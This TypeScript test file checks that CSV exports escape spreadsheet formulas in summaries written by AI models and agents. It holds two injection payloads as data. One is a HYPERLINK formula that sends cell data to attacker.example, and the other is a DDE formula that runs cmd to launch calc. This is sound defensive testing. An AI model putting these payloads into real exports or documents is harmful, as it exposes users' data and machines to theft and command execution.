/**
 * Text written by a model or an agent reaches the CSV exports as text, never as a spreadsheet
 * formula: an external agent's finish_day summary and a built-in model's summary, on one date and
 * over a range.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FINISH_SIGNAL, SUMMARY_REQUEST } from '../../src/core/prompt.js';
import type { FakeHandler } from '../fakes/fake-openai.js';
import { startTestServer, type Json, type TestServer } from '../helpers/http-server.js';
import { httpAgent } from '../helpers/mcp-client.js';
import { parseCsv } from './results-csv-reader.js';

const AGENT_FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A2,"x")';
const MODEL_FORMULA = '@SUM(1+1)*cmd|" /C calc"!A0';

/** Finishes at once and writes a formula as its summary. */
const formulaSummary: FakeHandler = (body) => {
  const last = body.messages.at(-1);
  if (last?.role === 'user' && last.content === SUMMARY_REQUEST) return { content: MODEL_FORMULA };
  return { content: `Nothing today. ${FINISH_SIGNAL}` };
};

describe('CSV exports of model- and agent-written text', () => {
  let server: TestServer;

  beforeAll(async () => {
    server = await startTestServer({
      models: [{ signature: 'alpha' }, { signature: 'ext', kind: 'external' }],
      scripts: { alpha: formulaSummary },
    });
    const jobId = (await server.trigger({ start_date: '2025-10-01', end_date: '2025-10-02' })).body[
      'job_id'
    ] as string;
    await server.waitFor(jobId, (s: Json) =>
      (s['details'] as Json[]).every((d) => d['model'] !== 'alpha' || d['status'] === 'completed'),
    );
    const agent = await httpAgent(server.url);
    try {
      for (let day = 0; day < 2; day++) {
        expect((await agent.call('claim_day')).json).toMatchObject({ status: 'claimed' });
        expect((await agent.call('finish_day', { summary: AGENT_FORMULA })).isError).toBe(false);
      }
    } finally {
      await agent.close();
    }
    expect(await server.waitFor(jobId)).toMatchObject({ status: 'completed' });
  }, 60_000);
  afterAll(() => server?.close());

  const summaries = async (query: string): Promise<Map<string, string>> => {
    const res = await fetch(`${server.url}/results?${query}&reasoning=summary&format=csv`);
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(await res.text());
    const model = header!.indexOf('model');
    const summary = header!.indexOf('summary');
    return new Map(rows.map((row) => [row[model]!, row[summary]!]));
  };

  it('writes summaries of one date as text, a quote before the formula', async () => {
    const cells = await summaries('start_date=2025-10-01&end_date=2025-10-01');
    expect(cells.get('ext')).toBe(`'${AGENT_FORMULA}`);
    expect(cells.get('alpha')).toBe(`'${MODEL_FORMULA}`);
  });

  it('writes summaries over a range as text too', async () => {
    const cells = await summaries('start_date=2025-10-01&end_date=2025-10-02');
    expect(cells.get('ext')).toBe(`'${AGENT_FORMULA}`);
    expect(cells.get('alpha')).toBe(`'${MODEL_FORMULA}`);
  });

  it('keeps the JSON answer as it was written', async () => {
    const res = await server.request(
      'GET',
      '/results?start_date=2025-10-01&end_date=2025-10-01&model=ext&reasoning=summary',
    );
    expect((res.body['results'] as Json[])[0]?.['reasoning']).toBe(AGENT_FORMULA);
  });
});
